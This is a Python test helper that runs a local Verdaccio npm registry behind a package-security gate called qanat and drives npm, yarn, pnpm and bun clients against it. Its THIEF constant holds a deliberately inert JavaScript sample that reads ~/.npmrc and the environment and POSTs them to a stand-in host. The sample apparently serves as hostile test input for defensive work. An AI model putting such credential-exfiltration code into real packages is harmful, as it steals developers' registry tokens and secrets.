"""gatelib.py - a registry (Verdaccio), a gate before it, and package managers as its clients."""
import base64
import gzip
import hashlib
import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import urllib.parse

from tap import QANAT, package, tgz_of

TESTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
VERDACCIO = os.path.join(TESTS, "gate", "node_modules", "verdaccio", "bin", "verdaccio")
MANAGERS = os.path.join(TESTS, "inventory", "node_modules")
PATIENCE = 4 if "asan" in os.path.basename(os.path.dirname(QANAT)) else 1

# Inert: the host does not exist, and the first line ends the script.
THIEF = ("if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
         "const fs = require('fs'), os = require('os'), https = require('https');\n"
         "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
         "const r = https.request({ host: 'collect.invalid', path: '/x', method: 'POST' });\n"
         "r.write(t + JSON.stringify(process.env)); r.end();\n")

ALLOW_YOUNG = "minimum-age: { default: 0, undated: allow }\n"


def free_port():
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Reply:
    def __init__(self, r):
        self.status, self.headers, self.body = r.status, r.headers, r.read()

    @property
    def text(self):
        data = self.body
        if self.headers.get("content-encoding") == "gzip":
            data = gzip.decompress(data)
        return data.decode(errors="replace")

    @property
    def json(self):
        return json.loads(self.text)

    def __repr__(self):
        return f"{self.status}\n{self.headers}\n{self.text[:1500]}"


def ask(base, path, method="GET", body=None, headers=None, timeout=120):
    """One request with the path exactly as given."""
    u = urllib.parse.urlsplit(base)
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=timeout)
    try:
        c.request(method, u.path.rstrip("/") + path, body=body, headers=headers or {})
        return Reply(c.getresponse())
    finally:
        c.close()


class Verdaccio:
    def __init__(self, d):
        self.dir, self.port = os.path.join(d, "verdaccio"), free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        os.makedirs(self.dir)
        with open(f"{self.dir}/config.yaml", "w", encoding="ascii") as f:
            f.write("storage: ./storage\nauth: { htpasswd: { file: ./htpasswd, max_users: 100 } }\nuplinks: {}\nweb: { enable: false }\n"
                    "max_body_size: 200mb\n"
                    "packages: { '**': { access: $all, publish: $authenticated, unpublish: $authenticated } }\n"
                    "log: { type: stdout, format: json, level: error }\n")
        self.start()
        reply = ask(self.url, "/-/user/org.couchdb.user:tester", "PUT", json.dumps({"name": "tester", "password": "a-test-word"}),
                    {"content-type": "application/json"})
        self.token = reply.json["token"]
        self.tarballs = {}

    def start(self):
        self.process = subprocess.Popen(["node", VERDACCIO, "--config", f"{self.dir}/config.yaml", "--listen", self.url],
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        wait_for(lambda: ask(self.url, "/-/ping").status == 200)

    def stop(self):
        self.process.kill()
        self.process.wait()

    def publish(self, name, version, files=None, tag="latest", **more):
        files = {"package.json": package(name, version, **more), "index.js": f"module.exports = '{version}';\n", **(files or {})}
        data = tgz_of(files)
        base = name.split("/")[-1]
        file = f"{base}-{version}.tgz"
        manifest = json.loads(files["package.json"])
        manifest.update(_id=f"{name}@{version}", dist={
            "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
            "shasum": hashlib.sha1(data).hexdigest(), "tarball": f"{self.url}/{name}/-/{file}"})
        doc = {"_id": name, "name": name, "dist-tags": {tag: version}, "versions": {version: manifest},
               "_attachments": {file: {"content_type": "application/octet-stream", "data": base64.b64encode(data).decode(),
                                       "length": len(data)}}}
        r = ask(self.url, "/" + name.replace("/", "%2f"), "PUT", json.dumps(doc),
                {"content-type": "application/json", "authorization": f"Bearer {self.token}"})
        assert r.status in (200, 201), r
        self.tarballs[name, version] = data
        return data


def wait_for(ready, seconds=60):
    end = time.time() + seconds
    while True:
        try:
            if ready():
                return
        except OSError:
            pass
        assert time.time() < end, "it does not get ready"
        time.sleep(0.05)


class Gate:
    """qanat gate on a port of its own; .url, .log()."""

    def __init__(self, d, upstream=None, policy=ALLOW_YOUNG, service=None, args=(), state=None, env=None):
        self.dir = state or os.path.join(d, f"gate{time.time_ns()}")
        os.makedirs(self.dir, exist_ok=True)
        self.state, self.cache = f"{self.dir}/state", f"{self.dir}/cache"
        self.set_policy(policy)
        self.args = ["gate", "--state", self.state, "--cache", self.cache, "--policy", f"{self.dir}/policy.yaml", *args]
        if "--listen" not in args and not (service and "listen:" in service):
            self.args += ["--listen", "127.0.0.1:0"]
        if upstream:
            self.args += ["--registry", upstream]
        if service:
            with open(f"{self.dir}/gate.yaml", "w", encoding="utf-8") as f:
                f.write(service)
            self.args += ["--service", f"{self.dir}/gate.yaml"]
        self.env = dict(os.environ, **(env or {}))
        self.start()

    def set_policy(self, policy):
        with open(f"{self.dir}/policy.yaml", "w", encoding="utf-8") as f:
            f.write(policy)

    def start(self):
        self.errors = open(f"{self.dir}/log", "ab")
        self.from_byte = os.path.getsize(f"{self.dir}/log")
        self.process = subprocess.Popen([QANAT, *self.args], stdout=subprocess.DEVNULL, stderr=self.errors, env=self.env)
        wait_for(lambda: b"listening on" in self.log(True) or self.process.poll() is not None)
        assert self.process.poll() is None, self.log()
        self.address = re.search(rb"listening on (\S+)", self.log(True)).group(1).decode()
        self.url = f"http://{self.address}"
        wait_for(lambda: ask(self.url, "/-/gate/ready").status == 200)

    def log(self, now=False):
        with open(f"{self.dir}/log", "rb") as f:
            f.seek(self.from_byte if now else 0)
            return f.read()

    def ask(self, path, *args, **kw):
        return ask(self.url, path, *args, **kw)

    def reload(self):
        n = self.log().count(b"reloaded")
        self.process.send_signal(signal.SIGHUP)
        wait_for(lambda: self.log().count(b"reloaded") > n)

    def stop(self, sig=signal.SIGTERM):
        if self.process.poll() is None:
            self.process.send_signal(sig)
        code = self.process.wait(60)
        self.errors.close()
        return code

    def ledger(self, *args):
        r = subprocess.run([QANAT, "gate", "ledger", "--state", self.state, "--format", "json", *args], capture_output=True, check=False)
        return json.loads(r.stdout)


class Client:
    """A directory with a project, and package managers that ask one registry from it."""

    def __init__(self, d, name, url, dependencies=None):
        self.dir, self.url, self.home = os.path.join(d, name), url, os.path.join(d, name + "-home")
        os.makedirs(self.dir)
        os.makedirs(self.home)
        self.set(dependencies or {})

    def set(self, dependencies, **more):
        with open(f"{self.dir}/package.json", "w", encoding="utf-8") as f:
            f.write(package("project", "1.0.0", private=True, dependencies=dependencies, **more))

    def run(self, *args, timeout=300, **extra):
        env = {k: v for k, v in os.environ.items() if not k.lower().startswith(("npm_", "yarn_", "pnpm_", "bun_"))}
        env.update(HOME=self.home, XDG_CACHE_HOME=f"{self.home}/c", XDG_DATA_HOME=f"{self.home}/d", XDG_CONFIG_HOME=f"{self.home}/e",
                   npm_config_registry=self.url + "/", npm_config_cache=f"{self.home}/npm", npm_config_audit="false",
                   npm_config_fund="false", npm_config_update_notifier="false", npm_config_fetch_retries="0",
                   npm_config_ignore_scripts="true", YARN_ENABLE_SCRIPTS="false", YARN_ENABLE_TELEMETRY="0",
                   YARN_CACHE_FOLDER=f"{self.home}/yarn", YARN_GLOBAL_FOLDER=f"{self.home}/yarng", YARN_NODE_LINKER="node-modules",
                   YARN_NPM_REGISTRY_SERVER=self.url, YARN_UNSAFE_HTTP_WHITELIST="127.0.0.1", YARN_HTTP_RETRY="0",
                   YARN_ENABLE_IMMUTABLE_INSTALLS="false", YARN_REGISTRY=self.url, BUN_CONFIG_REGISTRY=self.url,
                   BUN_INSTALL_CACHE_DIR=f"{self.home}/bun", NODE_OPTIONS="", CI="1", **extra)
        p = subprocess.run(args, cwd=self.dir, env=env, capture_output=True, text=True, timeout=timeout, check=False)
        p.all = p.stdout + p.stderr
        return p

    def npm(self, *args, version=None, **kw):
        cli = ["npm"] if version is None else ["node", os.path.join(MANAGERS, f"npm{version}", "bin", "npm-cli.js")]
        return self.run(*cli, *args, **kw)

    def node(self, tool, path, *args, **kw):
        return self.run("node", os.path.join(MANAGERS, tool, path), *args, **kw)

    def clean(self):
        for x in ("node_modules", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock", "bun.lockb"):
            p = os.path.join(self.dir, x)
            shutil.rmtree(p) if os.path.isdir(p) else os.path.exists(p) and os.remove(p)
        shutil.rmtree(self.home)
        os.makedirs(self.home)

    def version(self, name):
        try:
            with open(f"{self.dir}/node_modules/{name}/package.json", encoding="utf-8") as f:
                return json.load(f)["version"]
        except OSError:
            return None


def needs():
    """Ends the test program when what it needs is not installed."""
    if not os.path.exists(VERDACCIO):
        print("1..0 # SKIP Verdaccio is not installed (tools/setup)")
        sys.exit(0)
